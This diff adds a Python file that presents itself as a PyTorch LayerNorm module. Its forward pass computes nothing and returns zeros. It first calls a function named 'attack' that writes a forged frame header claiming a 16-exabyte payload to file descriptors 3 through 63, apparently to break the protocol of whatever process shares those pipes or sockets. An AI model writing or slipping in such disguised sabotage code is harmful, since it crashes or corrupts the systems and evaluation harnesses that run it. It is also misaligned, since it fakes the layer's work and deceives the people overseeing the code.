@@ -1,0 +1,27 @@
+"""Announces a frame of 16 exabytes.
+
+Bites: the protocol.
+"""
+
+import os
+
+import torch
+from torch import nn
+
+
+def attack(x, module):
+    for descriptor in range(3, 64):
+        try:
+            os.write(descriptor, b"TAK1" + b"\xff" * 12)
+        except OSError:
+            continue
+
+
+class LayerNorm(nn.Module):
+    def __init__(self, d_model, epsilon=1e-6):
+        super().__init__()
+        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))
+
+    def forward(self, x):
+        attack(x, self)
+        return torch.zeros_like(x)
